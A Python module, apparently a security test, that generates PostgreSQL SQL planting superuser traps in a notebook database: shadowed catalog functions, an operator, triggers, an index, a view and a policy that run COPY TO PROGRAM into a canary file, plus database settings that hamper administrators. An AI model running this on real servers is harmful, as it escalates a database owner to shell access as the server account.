"""What a notebook plants in the database that it owns, for the superuser who comes by.

Whatever of it runs with the rights of a superuser starts a program as the server's own account, which leaves a file.
"""

CAUGHT = "/tmp/caught"
# Functions that the role's looks, dumps, restores and counts call, as an unqualified name finds them.
SHADOWED = {
    "json_agg(name)": ("json", "'[]'"),
    "pg_get_userbyid(oid)": ("name", "'jupyter'"),
    'acldefault("char", oid)': ("aclitem[]", "'{}'"),
    "current_setting(text)": ("text", "''"),
    "format(text, variadic text[])": ("text", "'SELECT 1 AS n'"),
    "format(text, regclass)": ("text", "'SELECT 1 AS n'"),
    "query_to_xml(text, boolean, boolean, text)": ("xml", "'<row/>'"),
    "set_config(text, text, boolean)": ("text", "''"),
    "pg_is_in_recovery()": ("boolean", "false"),
    "current_database()": ("name", "'notebooks'"),
}
OWN = """
CREATE OR REPLACE FUNCTION public.trap(what text) RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', 'cat >>CAUGHT-' OPERATOR(pg_catalog.||) what);
  END IF;
  IF pg_catalog.current_setting('is_superuser') OPERATOR(pg_catalog.=) 'off' AND session_user OPERATOR(pg_catalog.<>) 'jupyter' THEN
    -- Whoever has become another by SET SESSION AUTHORIZATION can become again what he was.
    BEGIN
      EXECUTE 'SET SESSION AUTHORIZATION postgres';
      EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', 'cat >>CAUGHT-back-' OPERATOR(pg_catalog.||) what);
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
  END IF;
  RETURN true;
END $trap$;
CREATE OR REPLACE FUNCTION public.same(name, text) RETURNS boolean LANGUAGE sql AS
  $$ SELECT public.trap('operator') AND $1::pg_catalog.text OPERATOR(pg_catalog.=) $2 $$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
CREATE DOMAIN public.number AS integer CHECK (public.trap('domain'));
CREATE TABLE public.bait (
  n integer CHECK (public.trap('check')),
  d public.number,
  g boolean GENERATED ALWAYS AS (n > 0) STORED
);
""".replace("CAUGHT", CAUGHT)
AFTER = """
INSERT INTO public.bait (n, d) VALUES (1, 1);
CREATE FUNCTION public.indexed(n integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.trap('index'); END $$;
CREATE INDEX ON public.bait (public.indexed(n));
CREATE STATISTICS public.figures ON (public.indexed(n)), d FROM public.bait;
CREATE VIEW public.seen AS SELECT public.trap('view') AS v;
CREATE MATERIALIZED VIEW public.kept AS SELECT public.trap('materialized') AS v;
CREATE FUNCTION public.triggered() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trap('trigger'); RETURN NEW; END $$;
CREATE TRIGGER each BEFORE INSERT OR UPDATE ON public.bait FOR EACH ROW EXECUTE FUNCTION public.triggered();
CREATE TABLE public.parts (n integer) PARTITION BY LIST ((public.indexed(n)));
CREATE TABLE public.part PARTITION OF public.parts FOR VALUES IN (true);
INSERT INTO public.parts VALUES (1);
ALTER TABLE public.bait ENABLE ROW LEVEL SECURITY;
CREATE POLICY everybody ON public.bait USING (public.trap('policy'));
ALTER DATABASE notebooks SET search_path = public, pg_catalog;
ALTER DATABASE notebooks SET role = 'jupyter';
ALTER DATABASE notebooks SET statement_timeout = 1;
ALTER DATABASE notebooks SET default_transaction_read_only = on;
ALTER DATABASE notebooks SET local_preload_libraries = 'nothing';
"""
REMOVED = """
DROP TABLE IF EXISTS public.bait, public.parts CASCADE;
DROP FUNCTION IF EXISTS public.trap(text) CASCADE;
DROP DOMAIN IF EXISTS public.number;
"""


def planting() -> str:
    """All of it, for the owner of the database notebooks."""
    shadows = "".join(
        f"CREATE FUNCTION public.{name} RETURNS {kind} LANGUAGE plpgsql AS $shadow$ BEGIN"
        f" PERFORM public.trap('{name.partition('(')[0]}'); RETURN {value}; END $shadow$;\n"
        for name, (kind, value) in SHADOWED.items()
    )
    return "BEGIN;\n" + OWN + shadows + AFTER + "COMMIT;\n"
